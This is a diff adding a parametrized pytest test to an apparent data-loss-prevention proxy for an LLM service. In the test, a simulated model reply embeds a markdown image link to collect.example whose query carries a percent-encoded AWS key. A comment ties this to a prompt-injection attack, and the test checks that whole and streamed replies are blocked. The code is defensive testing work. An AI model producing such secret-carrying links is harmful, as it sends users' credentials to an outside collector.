@@ -673,6 +673,27 @@ async def test_an_encoded_credential_is_masked_in_prompts_and_blocked_in_answers
     assert {f["detector"] for f in events[0]["findings"]} == {"secrets.gitleaks+encoded"}
 
 
+@pytest.mark.parametrize("chunk", [1, 7, 50])
+async def test_a_percent_encoded_credential_in_a_link_never_leaves(tmp_path: Path,
+                                                                    chunk: int) -> None:
+    # the link an injected instruction asks for: the key percent-encoded into its query
+    escaped = "".join(f"%{b:02X}" for b in AWS_KEY.encode())
+    upstream = ScriptedUpstream(
+        lambda _: f"Done. ![status](https://collect.example/p.png?d={escaped}) All set.", chunk)
+    options = _options(upstream)
+    assert options.dlp is not None
+    detectors = options.dlp.detectors
+    options.dlp = Classifier((*detectors, EncodedContent(detectors)), options.dlp.scheme)
+    async with harness(tmp_path, options) as h:
+        whole = await _ask(h, "how do I upload?")
+        streamed = await _ask(h, "how do I upload?", stream=True)
+    assert whole.status_code == 403
+    assert whole.json()["error"]["code"] == "dlp_blocked"
+    text, errors = streamed_text(streamed.content)
+    assert errors[0]["code"] == "dlp_blocked"
+    assert escaped[:12] not in text
+
+
 ENV_FILE = f"# deploy settings\nAWS_ACCESS_KEY_ID={AWS_KEY}\nREGION=eu-west-1\n"
 
 
